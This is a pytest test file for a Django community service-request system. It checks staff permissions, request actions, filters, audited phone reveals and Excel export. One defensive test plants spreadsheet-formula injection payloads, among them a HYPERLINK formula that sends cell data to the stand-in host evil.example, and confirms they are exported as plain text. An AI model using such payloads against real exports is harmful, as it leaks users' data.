"""The staff request pages: the list with its filters and export, the request page with its timeline and
every action, registering a request, the 督办 list and 报到 — as secretary_a of 社区A, its handlers and
a department's user would use them."""

from __future__ import annotations

import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext
from PIL import Image

from dangjian.core.choices import AuditAction
from dangjian.core.models import AuditEntry
from dangjian.service import services
from dangjian.service.choices import RequestSource, RequestState, WhistleState
from dangjian.service.models import RatingLevel, ServiceRequest, WhistleCall
from tests.service.conftest import at, dispatched_request, file_request, rate_as_resident, resolved_request

LIST = reverse("service:request_list")


def detail(req) -> str:
    return reverse("service:request_detail", args=[req.pk])


def act(client, req, action: str, **data):
    req.refresh_from_db()
    data.setdefault("version", req.version)
    return client.post(reverse("service:request_action", args=[req.pk, action]), data, follow=True)


def jpeg(name: str = "photo.jpg") -> SimpleUploadedFile:
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (30, 120, 200)).save(buffer, format="JPEG")
    return SimpleUploadedFile(name, buffer.getvalue(), content_type="image/jpeg")


def text(response) -> str:
    return response.content.decode()


def codes(response) -> set[str]:
    return set(re.findall(r'font-monospace">([0-9A-Z]{10})<', text(response)))


# --- who sees what ----------------------------------------------------------------------------------


def test_anonymous_visitors_are_sent_to_log_in(client, world, service_world):
    req = file_request(world, service_world.garbage)
    for url in (LIST, detail(req), reverse("service:queue"), reverse("service:supervised_list")):
        response = client.get(url)
        assert response.status_code == 302 and "/login" in response["Location"]


def test_secretary_b_gets_404_on_a_request_of_community_a(client, world, service_world, secretary_b):
    req = file_request(world, service_world.garbage)
    client.force_login(secretary_b)

    assert client.get(detail(req)).status_code == 404
    assert act(client, req, "accept").status_code == 404
    assert req.tracking_code not in text(client.get(LIST))


def test_secretary_a_sees_the_request_page_with_facts_deadline_and_timeline(
    client, world, service_world, secretary_a
):
    req = file_request(world, service_world.garbage, address="幸福里3号楼", contact_name="张大妈")
    client.force_login(secretary_a)

    page = text(client.get(detail(req)))

    assert "小区门口垃圾三天没人清运" in page and "幸福里3号楼" in page and "张大妈" in page
    assert "138****8000" in page and "13800138000" not in page  # contact masked until revealed
    assert "3 工作日" in page  # the deadline's rule
    assert "办理过程" in page and "居民" in page  # the submit event, by the resident
    assert "受理" in page and "不予受理" in page  # the actions a dispatcher may take on a new report


def test_a_grid_worker_sees_no_dispatcher_actions(client, world, service_world, grid_worker_a):
    req = file_request(world, service_world.garbage)
    client.force_login(grid_worker_a)

    page = text(client.get(detail(req)))

    assert "不予受理" not in page and "添加备注" in page
    assert act(client, req, "accept").status_code == 403


def test_a_department_user_sees_only_what_is_sent_to_the_department(
    client, world, service_world, secretary_a, department_user
):
    lamp = file_request(world, service_world.lighting, description="路灯不亮")
    services.accept_request(lamp, by=secretary_a)
    services.dispatch_request(lamp, by=secretary_a)  # the category's default: the department
    other = file_request(world, service_world.garbage)
    client.force_login(department_user)

    listed = codes(client.get(LIST))

    assert listed == {lamp.tracking_code}
    assert client.get(detail(other)).status_code == 404
    page = text(act(client, lamp, "start"))
    assert "处置中" in page


def test_unknown_action_is_404(client, world, service_world, secretary_a):
    req = file_request(world, service_world.garbage)
    client.force_login(secretary_a)

    response = client.post(reverse("service:request_action", args=[req.pk, "explode"]), {"version": 1})

    assert response.status_code == 404


# --- actions through the page ------------------------------------------------------------------------


def test_the_whole_life_of_a_request_through_the_pages(client, world, service_world, secretary_a, handler_a1):
    req = file_request(world, service_world.garbage)
    client.force_login(secretary_a)

    assert "已完成“受理”。" in text(act(client, req, "accept", note="已电话联系"))
    page = text(act(client, req, "dispatch", handler=f"org:{world.branch_a1.pk}", note="请尽快处理"))
    req.refresh_from_db()
    assert req.state == RequestState.DISPATCHED and req.handler_org == world.branch_a1
    assert "已完成“分派”。" in page

    client.force_login(handler_a1)
    act(client, req, "start")
    page = text(act(client, req, "feedback", resolution="已清运完毕", photo=jpeg()))
    req.refresh_from_db()
    assert req.state == RequestState.FEEDBACK and req.photos.filter(kind="result").count() == 1

    client.force_login(secretary_a)
    act(client, req, "send_back", reason="现场仍有垃圾")
    req.refresh_from_db()
    assert req.state == RequestState.IN_PROGRESS

    client.force_login(handler_a1)
    act(client, req, "feedback", resolution="已彻底清运")
    client.force_login(secretary_a)
    page = text(act(client, req, "approve"))
    req.refresh_from_db()
    assert req.state == RequestState.RESOLVED and "办结" in page

    act(client, req, "reopen", reason="居民反映又堆积了")
    req.refresh_from_db()
    assert req.state == RequestState.ACCEPTED and req.reopen_count == 1

    page = text(client.get(detail(req)))
    for step in ("受理", "分派", "开始处置", "处置反馈", "审核不通过", "审核通过", "重新打开"):
        assert step in page
    assert (
        page.index("已电话联系") < page.index("现场仍有垃圾") < page.index("居民反映又堆积了")
    )  # newest last
    assert AuditEntry.objects.filter(object_type="service.servicerequest", object_id=str(req.pk)).count() >= 9


def test_reject_without_a_reason_is_refused_in_chinese_and_with_one_it_is_done(
    client, world, service_world, secretary_a
):
    req = file_request(world, service_world.garbage)
    client.force_login(secretary_a)

    page = text(act(client, req, "reject", reason=""))
    req.refresh_from_db()
    assert req.state == RequestState.REPORTED
    assert "请填写原因。" in page

    act(client, req, "reject", reason="不属于受理范围")
    req.refresh_from_db()
    assert req.state == RequestState.REJECTED and req.rejection_reason == "不属于受理范围"
    act(client, req, "archive")
    req.refresh_from_db()
    assert req.state == RequestState.ARCHIVED


def test_an_action_from_a_stale_page_shows_the_concurrent_change_message(
    client, world, service_world, secretary_a
):
    req = file_request(world, service_world.garbage)
    client.force_login(secretary_a)
    stale_version = req.version
    services.add_comment(req, by=secretary_a, note="另一个窗口里的备注")

    page = text(act(client, req, "accept", version=stale_version))

    req.refresh_from_db()
    assert req.state == RequestState.REPORTED
    assert "有人同时修改了这条诉求" in page


def test_an_action_not_possible_in_the_state_names_the_state(client, world, service_world, secretary_a):
    req = file_request(world, service_world.garbage)
    client.force_login(secretary_a)

    page = text(act(client, req, "approve"))

    assert "当前为“已上报”" in page


def test_handler_returns_and_dispatcher_suspends_and_resumes(
    client, world, service_world, secretary_a, handler_a1
):
    req = dispatched_request(world, service_world, secretary_a)
    client.force_login(handler_a1)
    act(client, req, "return", reason="不属于本网格")
    req.refresh_from_db()
    assert req.state == RequestState.RETURNED and req.handler_org is None

    client.force_login(secretary_a)
    act(client, req, "suspend", reason="等待居民提供材料")
    req.refresh_from_db()
    assert req.state == RequestState.SUSPENDED
    assert "计时暂停" in text(client.get(detail(req)))
    act(client, req, "resume")
    req.refresh_from_db()
    assert req.state == RequestState.RETURNED
    act(client, req, "reassign", handler=f"org:{world.branch_a1.pk}")  # not from 退回: refused
    req.refresh_from_db()
    assert req.state == RequestState.RETURNED


def test_reassign_moves_the_request_to_a_department(client, world, service_world, secretary_a):
    req = dispatched_request(world, service_world, secretary_a)
    client.force_login(secretary_a)

    page = text(act(client, req, "reassign", handler=f"dept:{service_world.department.pk}", note="转城管"))

    req.refresh_from_db()
    assert req.handler_department == service_world.department and req.handler_org is None
    assert "改派" in page and "幸福社区第一网格党支部 → 区城管执法局" in page


def test_recategorize_keeps_both_categories_and_deadlines_in_the_timeline(
    client, world, service_world, secretary_a
):
    req = file_request(world, service_world.garbage, now=at("2026-02-13 10:00"))
    client.force_login(secretary_a)

    page = text(act(client, req, "recategorize", category=service_world.lighting.pk, note="其实是路灯"))

    req.refresh_from_db()
    assert req.category == service_world.lighting
    assert "垃圾清运 → 路灯维修" in page
    assert "2026-02-25 23:59 → " in page  # the old deadline, then the new one


def test_supervise_whistle_and_the_department_reports(
    client, world, service_world, secretary_a, department_user
):
    req = dispatched_request(world, service_world, secretary_a)
    client.force_login(secretary_a)
    act(client, req, "supervise", note="请加快处理")
    page = text(act(client, req, "whistle", department=service_world.department.pk, note="需城管执法"))
    req.refresh_from_db()
    assert req.is_supervised and "吹哨" in page

    supervised = text(client.get(reverse("service:supervised_list")))
    assert req.tracking_code in supervised and "区城管执法局" in supervised

    call = WhistleCall.objects.get(request=req)
    client.force_login(department_user)
    page = text(client.get(detail(req)))
    assert "为本部门报到" in page
    page = text(client.post(reverse("service:whistle_report", args=[call.pk]), follow=True))
    call.refresh_from_db()
    req.refresh_from_db()
    assert call.state == WhistleState.REPORTED and req.handler_department == service_world.department
    assert "已报到" in page


def test_whistle_report_by_someone_outside_the_department_is_refused(
    client, world, service_world, secretary_a
):
    req = dispatched_request(world, service_world, secretary_a)
    call = services.whistle_request(req, by=secretary_a, department=service_world.department, note="需城管")
    client.force_login(secretary_a)

    assert client.post(reverse("service:whistle_report", args=[call.pk])).status_code == 403


def test_visit_comment_photo_and_follow_up(client, world, service_world, secretary_a, handler_a1):
    req = file_request(world, service_world.garbage)
    client.force_login(secretary_a)
    act(client, req, "visit", note="第二次来")
    act(client, req, "visit")
    act(client, req, "comment", note="已与物业沟通")
    act(client, req, "photo", photo=jpeg())
    req.refresh_from_db()
    assert req.visit_count == 2 and req.photos.count() == 1
    page = text(client.get(detail(req)))
    assert "最多跑一次" in page and "已与物业沟通" in page

    done = resolved_request(world, service_world, secretary_a, handler_a1)
    bad = RatingLevel.objects.filter(is_bad=True).first()
    rate_as_resident(done, level=bad.code, comment="没清干净")
    act(client, done, "follow_up", note="已督促二次清运")
    done.refresh_from_db()
    assert done.follow_up_state == "done"


def test_revealing_the_contact_phone_is_audited(client, world, service_world, secretary_a, grid_worker_a):
    req = file_request(world, service_world.garbage)
    client.force_login(grid_worker_a)
    assert client.post(reverse("service:request_action", args=[req.pk, "reveal_phone"])).status_code == 403

    client.force_login(secretary_a)
    page = text(client.post(reverse("service:request_action", args=[req.pk, "reveal_phone"])))

    assert "13800138000" in page
    assert AuditEntry.objects.filter(action=AuditAction.REVEAL, object_id=str(req.pk)).count() == 1


# --- the list, its filters and export -------------------------------------------------------------------


def test_the_list_shows_the_scope_and_filters_by_code_state_category_area_org_and_dates(
    client, world, service_world, secretary_a, handler_a1
):
    garbage = file_request(world, service_world.garbage, now=at("2026-03-02 10:00"))
    lamp = file_request(world, service_world.lighting, area=world.grid_a2, now=at("2026-04-01 10:00"))
    other = file_request(world, service_world.garbage, area=world.grid_b1)
    done = resolved_request(world, service_world, secretary_a, handler_a1, now=at("2026-05-06 10:00"))
    client.force_login(secretary_a)

    assert codes(client.get(LIST)) == {garbage.tracking_code, lamp.tracking_code, done.tracking_code}
    assert other.tracking_code not in codes(client.get(LIST))
    assert codes(client.get(LIST, {"q": garbage.tracking_code.lower()})) == {garbage.tracking_code}
    assert codes(client.get(LIST, {"state": ["resolved", "rated"]})) == {done.tracking_code}
    assert codes(client.get(LIST, {"category": service_world.parent.pk})) == {
        garbage.tracking_code,
        lamp.tracking_code,
        done.tracking_code,
    }
    assert codes(client.get(LIST, {"category": service_world.lighting.pk})) == {lamp.tracking_code}
    assert codes(client.get(LIST, {"area": world.grid_a2.pk})) == {lamp.tracking_code}
    assert codes(client.get(LIST, {"org": world.branch_a1.pk})) == {done.tracking_code}  # its handler
    assert codes(client.get(LIST, {"created_from": "2026-03-01", "created_to": "2026-03-31"})) == {
        garbage.tracking_code
    }
    assert codes(client.get(LIST, {"resolved_from": "2026-05-01", "resolved_to": "2026-05-31"})) == {
        done.tracking_code
    }
    assert codes(client.get(LIST, {"source": RequestSource.HOTLINE})) == set()
    page = text(client.get(LIST, {"area_q": "第二网格"}))
    assert f"area={world.grid_a2.pk}" in page


def test_overdue_and_supervised_filters(client, world, service_world, secretary_a):
    late = file_request(world, service_world.garbage, now=at("2026-01-05 10:00"))
    fresh = file_request(world, service_world.garbage)
    services.supervise_request(fresh, by=secretary_a, note="关注")
    client.force_login(secretary_a)

    assert codes(client.get(LIST, {"overdue": "true"})) == {late.tracking_code}
    assert codes(client.get(LIST, {"overdue": "false"})) == {fresh.tracking_code}
    assert codes(client.get(LIST, {"supervised": "true"})) == {fresh.tracking_code}
    page = text(client.get(LIST))
    assert "督办" in page and "已超期" in page


def test_the_figure_drill_down_lists_the_requests_behind_a_figure_and_states_it(
    client, world, service_world, secretary_a, handler_a1
):
    on_time = resolved_request(world, service_world, secretary_a, handler_a1, now=at("2026-03-02 10:00"))
    late = dispatched_request(world, service_world, secretary_a, now=at("2026-03-02 10:00"))
    services.start_handling(late, by=handler_a1, now=at("2026-03-02 11:00"))
    services.report_result(late, by=handler_a1, resolution="晚了", now=at("2026-03-20 10:00"))
    services.approve_result(late, by=secretary_a, now=at("2026-03-20 11:00"))
    client.force_login(secretary_a)
    period = {"start": "2026-01-01", "end": "2027-01-01", "area": world.community_a.pk}

    on_time_page = client.get(LIST, {"figure": "on_time", **period, "category": service_world.garbage.pk})
    resolved_page = client.get(LIST, {"figure": "resolved", **period})

    assert codes(on_time_page) == {on_time.tracking_code}
    assert codes(resolved_page) == {on_time.tracking_code, late.tracking_code}
    assert "“按时办结”（2026年1月1日至2026年12月31日）" in text(on_time_page)
    assert codes(client.get(LIST, {"figure": "on_time", "start": "2027-01-01", "end": "2028-01-01"})) == set()


def _list_queries(client) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(LIST)
    assert response.status_code == 200
    return len(queries.captured_queries)


def test_the_list_costs_the_same_queries_for_3_and_30_requests(
    client, world, service_world, secretary_a, handler_a1
):
    client.force_login(secretary_a)
    for _ in range(3):
        dispatched_request(world, service_world, secretary_a)
    three = _list_queries(client)
    for number in range(27):
        req = file_request(world, service_world.garbage, area=world.grid_a2 if number % 2 else None)
        if number % 3 == 0:
            services.supervise_request(req, by=secretary_a)
    assert _list_queries(client) == three


def test_the_export_masks_phones_without_the_reveal_permission_and_is_audited(
    client, world, service_world, secretary_a, grid_worker_a
):
    from openpyxl import load_workbook

    file_request(world, service_world.garbage)
    client.force_login(grid_worker_a)
    response = client.get(reverse("service:request_export"), {"state": "reported"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value]
    assert "138****8000" in cells and "13800138000" not in cells

    client.force_login(secretary_a)
    response = client.get(reverse("service:request_export"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert "13800138000" in [str(cell.value) for row in sheet.iter_rows() for cell in row]
    entry = AuditEntry.objects.filter(action=AuditAction.EXPORT).order_by("-id").first()
    assert entry.changes["rows"] == 1 and entry.changes["clear_personal_data_rows"] == 1


@pytest.mark.parametrize(
    "planted", ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+1", "-1+1", "@SUM(1)"]
)
def test_a_formula_planted_through_the_portal_is_exported_as_plain_text(
    client, world, service_world, secretary_a, planted
):
    """Issue 15, point 3: a resident's text that a spreadsheet would evaluate stays text."""
    from openpyxl import load_workbook

    file_request(world, service_world.garbage, contact_name=planted, description=f"{planted} 小区门口垃圾")
    client.force_login(secretary_a)
    response = client.get(reverse("service:request_export"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    planted_cells = [cell for row in sheet.iter_rows() for cell in row if str(cell.value).startswith(planted)]
    assert planted_cells
    for cell in planted_cells:
        assert cell.data_type == "s" and cell.quotePrefix


# --- the request page's cost --------------------------------------------------------------------------


def _detail_queries(client, req) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(detail(req))
    assert response.status_code == 200
    return len(queries.captured_queries)


def test_the_request_page_costs_the_same_queries_for_3_and_30_events(
    client, world, service_world, secretary_a
):
    req = file_request(world, service_world.garbage)
    services.add_comment(req, by=secretary_a, note="备注0")
    services.log_visit(req, by=secretary_a)
    client.force_login(secretary_a)
    three = _detail_queries(client, req)
    for number in range(27):
        services.add_comment(req, by=secretary_a, note=f"备注{number + 1}")
    assert req.events.count() == 30
    assert _detail_queries(client, req) == three


# --- registering a request ----------------------------------------------------------------------------


def test_staff_register_a_hotline_request_in_a_grid_of_their_scope(client, world, service_world, secretary_a):
    client.force_login(secretary_a)
    create = reverse("service:request_create")
    assert "幸福社区第一网格" in text(client.get(create))  # a few grids: offered without a search
    assert "光明社区第一网格" not in text(client.get(create, {"q": "光明"}))

    response = client.post(
        create,
        {
            "source": RequestSource.HOTLINE,
            "category": service_world.garbage.pk,
            "description": "楼道堆放杂物",
            "area": world.grid_a2.pk,
            "contact_name": "刘先生",
            "contact_phone": "13900139000",
            "photo": jpeg(),
        },
        follow=True,
    )

    req = ServiceRequest.objects.get(description="楼道堆放杂物")
    assert (
        req.area == world.grid_a2 and req.source == RequestSource.HOTLINE and req.reported_by == secretary_a
    )
    assert req.photos.count() == 1
    assert req.tracking_code in text(response)


def test_registering_outside_the_scope_or_in_a_parent_category_is_refused(
    client, world, service_world, secretary_a
):
    client.force_login(secretary_a)
    create = reverse("service:request_create")
    base = {"source": RequestSource.WALK_IN, "category": service_world.garbage.pk, "description": "问题"}

    outside = client.post(create, {**base, "area": world.grid_b1.pk})
    no_grid = client.post(create, base)

    assert outside.status_code == 400 and no_grid.status_code == 400
    with translation.override("zh-hans"):
        asked = gettext(
            "Please choose the grid, give the latitude and longitude of the place, or its address."
        )
    assert asked in text(no_grid)
    assert not ServiceRequest.objects.exists()


@pytest.mark.parametrize("persona", ["resident"])
def test_people_without_a_role_get_403(client, world, service_world, persona, request):
    client.force_login(request.getfixturevalue(persona))
    for url in (LIST, reverse("service:queue"), reverse("service:request_create")):
        assert client.get(url).status_code == 403


def test_the_detail_marks_an_overdue_deadline(client, world, service_world, secretary_a):
    req = file_request(world, service_world.garbage, now=at("2026-01-05 10:00"))
    client.force_login(secretary_a)

    page = text(client.get(detail(req)))

    assert "text-danger" in page and "已超期" in page
    assert timezone.now() > req.due_at


def _supervised_queries(client) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(reverse("service:supervised_list"))
    assert response.status_code == 200
    return len(queries.captured_queries)


def test_the_supervised_list_costs_the_same_queries_for_3_and_30_requests(
    client, world, service_world, secretary_a
):
    client.force_login(secretary_a)

    def supervised_with_whistle():
        req = dispatched_request(world, service_world, secretary_a)
        services.supervise_request(req, by=secretary_a, note="督办")
        services.whistle_request(req, by=secretary_a, department=service_world.department, note="吹哨")

    for _ in range(3):
        supervised_with_whistle()
    three = _supervised_queries(client)
    for _ in range(27):
        supervised_with_whistle()
    assert _supervised_queries(client) == three


def test_an_unknown_figure_lists_nothing_and_says_what_is_wrong(client, world, service_world, secretary_a):
    file_request(world, service_world.garbage)
    client.force_login(secretary_a)

    response = client.get(LIST, {"figure": "happiness"})

    assert response.status_code == 200 and codes(response) == set()
    assert "happiness" in text(response)  # the filter form names the refused value


def test_the_supervised_list_shows_open_requests_and_all_of_them_on_request(
    client, world, service_world, secretary_a, handler_a1
):
    open_one = dispatched_request(world, service_world, secretary_a)
    services.supervise_request(open_one, by=secretary_a, note="督办")
    done = dispatched_request(world, service_world, secretary_a)
    services.supervise_request(done, by=secretary_a, note="督办")
    services.start_handling(done, by=handler_a1)
    services.report_result(done, by=handler_a1, resolution="已处理")
    services.approve_result(done, by=secretary_a)
    client.force_login(secretary_a)

    page = text(client.get(reverse("service:supervised_list")))
    assert open_one.tracking_code in page and done.tracking_code not in page
    assert "仍在办理的督办诉求" in page

    page = text(client.get(reverse("service:supervised_list"), {"all": "1"}))
    assert open_one.tracking_code in page and done.tracking_code in page
